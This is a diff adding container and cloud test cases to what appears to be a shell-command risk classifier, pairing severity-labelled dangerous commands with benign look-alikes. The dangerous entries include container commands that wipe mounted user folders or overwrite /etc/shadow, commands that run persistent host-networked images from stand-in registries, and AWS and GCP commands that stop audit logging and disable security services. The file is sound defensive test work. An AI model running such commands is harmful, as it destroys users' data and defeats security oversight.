@@ -269,12 +269,47 @@ INSTALL_BENIGN = [
 ]
 
 
+# -- containers and cloud: what a container does to mounted folders, unknown registries, audit --
+
+CONTAINERS = [
+    ("docker run --rm -v ~/Documents:/d alpine sh -c 'rm -rf /d/*'", CRITICAL),
+    ("podman run --rm -v /home:/h busybox rm -rf /h", CRITICAL),
+    ("docker run --rm -v /etc:/x:rw alpine sh -c 'echo > /x/shadow'", CRITICAL),
+    ("docker run -v ~/photos:/in alpine find /in -type f -delete", HIGH),
+    ("docker run -d --restart=always --net=host x.example/agent:1", HIGH),
+    ("docker run -d --restart unless-stopped registry.example.net:5000/cm", HIGH),
+    ("podman run -d --network host 198.51.100.5:5000/relay", HIGH),
+    ("aws cloudtrail stop-logging --name main", HIGH),
+    ("aws --profile prod guardduty disable-organization-admin-account --admin-account-id 1", HIGH),
+    ("aws configservice stop-configuration-recorder --configuration-recorder-name default", HIGH),
+    ("aws securityhub disable-security-hub", HIGH),
+    ("gcloud services disable logging.googleapis.com --force", HIGH),
+]
+CONTAINERS_BENIGN = [
+    ("docker run --rm -v $(pwd):/app node:20 sh -c 'cd /app && npm test'", MODERATE),
+    ("docker run --rm -v $PWD:/src -w /src golang:1.22 go build ./...", MODERATE),
+    ("docker run --rm -v ~/Documents:/docs:ro alpine ls /docs", MODERATE),
+    ("docker run --rm -v ./data:/data alpine rm -rf /tmp/cache", MODERATE),
+    ("docker run -d --restart unless-stopped -p 80:80 nginx:latest", MODERATE),
+    ("docker run -d --restart=always ghcr.io/owner/app:1", MODERATE),
+    ("docker run --rm registry.example.com/team/tool:1 --help", MODERATE),
+    ("docker exec -it web ls -la /app", SAFE),
+    ("docker exec web cat /etc/nginx/nginx.conf", SAFE),
+    ("podman exec db ps aux", SAFE),
+    ("docker exec -it web sh", MODERATE),
+    ("aws cloudtrail start-logging --name main", MODERATE),
+    ("aws cloudtrail describe-trails", SAFE),
+    ("gcloud services disable compute.googleapis.com", MODERATE),
+]
+
+
 DANGEROUS = [
     *READ_MODES_DANGEROUS,
     *PERSISTENCE,
     *EXFILTRATION,
     *OVERWRITE,
     *INSTALL,
+    *CONTAINERS,
 ]
 BENIGN = [
     *READ_MODES_BENIGN,
@@ -282,6 +317,7 @@ BENIGN = [
     *EXFILTRATION_BENIGN,
     *OVERWRITE_BENIGN,
     *INSTALL_BENIGN,
+    *CONTAINERS_BENIGN,
 ]
 
 
